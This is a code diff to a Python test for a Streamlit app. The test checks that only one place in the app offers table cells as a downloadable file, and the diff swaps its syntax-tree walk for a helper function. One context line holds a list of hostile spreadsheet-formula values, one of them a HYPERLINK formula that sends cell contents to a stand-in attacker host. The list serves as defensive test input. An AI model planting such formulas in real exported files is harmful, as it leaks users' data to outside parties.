@@ -11,6 +11,7 @@ from streamlit.testing.v1 import AppTest
 import app
 from app.pages import tables
 from data.spreadsheets import csv_cell, read_cell
+from tests.sources import nodes
 
 ROOT = Path(app.__file__).parent
 OFFER_FILES = {"dataframe", "data_editor", "download_button", "to_csv", "to_excel"}
@@ -21,7 +22,7 @@ HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1", "-1+1", "@SUM(
 def test_only_one_place_of_the_app_offers_cells_as_a_file() -> None:
     found = []
     for path in sorted(ROOT.rglob("*.py")):
-        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
+        for node in nodes(path):
             called = node.func.attr if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) else ""
             if called in OFFER_FILES or (called in ("write", "table") and "DataFrame" in ast.unparse(node)):
                 found.append((path.relative_to(ROOT).as_posix(), called))
